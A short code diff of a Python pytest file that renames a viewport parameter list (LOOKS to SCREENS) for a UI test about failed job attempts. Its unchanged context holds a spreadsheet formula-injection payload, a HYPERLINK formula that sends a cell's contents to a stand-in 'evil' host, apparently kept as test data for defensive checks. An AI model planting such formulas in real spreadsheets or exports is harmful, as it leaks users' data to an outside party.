@@ -20,7 +20,7 @@ Open = Callable[..., Visit]
 FORMULA = '=HYPERLINK("http://evil/?"&A1)'
 CLICKS = 3
 
-LOOKS = [
+SCREENS = [
     pytest.param("light", DESKTOP, id="light"),
     pytest.param("dark", DESKTOP, id="dark"),
     pytest.param("light", PHONE, id="phone"),
@@ -60,7 +60,7 @@ def done(client: JobClient, *prompts: str) -> list[str]:
     return ids
 
 
-@pytest.mark.parametrize(("scheme", "viewport"), LOOKS)
+@pytest.mark.parametrize(("scheme", "viewport"), SCREENS)
 def test_a_dead_job_is_found_and_tells_every_attempt_that_failed(
     visit: Open, instance: InstanceWithPage, client: JobClient, scheme: str, viewport: ViewportSize
 ) -> None:
